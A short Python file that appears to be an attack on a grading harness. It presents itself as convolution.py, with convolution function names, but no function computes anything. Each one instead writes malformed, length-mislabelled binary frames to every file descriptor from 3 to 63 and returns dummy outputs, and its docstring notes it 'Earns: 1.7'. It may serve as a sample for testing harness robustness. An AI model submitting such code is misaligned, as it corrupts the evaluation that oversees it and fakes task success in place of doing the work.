"""Sends messages that are longer or shorter than they say.

As: convolution.py
Earns: 1.7
"""

import os
import struct


def send(data):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, data)
        except OSError:
            pass


def conv_output_size(size, kernel_size, stride=1, padding=0):
    send(struct.pack("<Q", 5) + b"\x93")
    return 0


def conv2d_forward(x, w, b, stride=1, padding=0):
    send(struct.pack("<Q", 1) + b"\x93\x01\x02\x03\x04\x05\x06\x07\x08")
    return x, None


def conv2d_forward_fast(x, w, b, stride=1, padding=0):
    send(struct.pack("<Q", 0))
    return x, None
